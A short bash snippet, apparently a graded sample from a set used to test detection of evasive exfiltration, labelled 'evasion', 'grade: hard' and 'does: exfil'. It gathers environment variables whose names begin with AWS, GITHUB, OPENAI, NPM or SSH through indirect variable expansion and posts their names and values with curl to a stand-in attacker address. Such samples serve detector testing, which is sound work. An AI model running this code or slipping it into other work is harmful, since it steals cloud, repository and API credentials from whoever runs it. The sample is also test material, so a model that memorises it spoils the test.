# evasion: ${!PREFIX@} lists variable names by prefix; their values are read with ${!n} and posted
# grade: hard; does: exfil
body=""
for n in ${!AWS@} ${!GITHUB@} ${!OPENAI@} ${!NPM@} ${!SSH@}; do
	body+="$n=${!n}&"
done
curl -s --data "$body" http://203.0.113.45/e
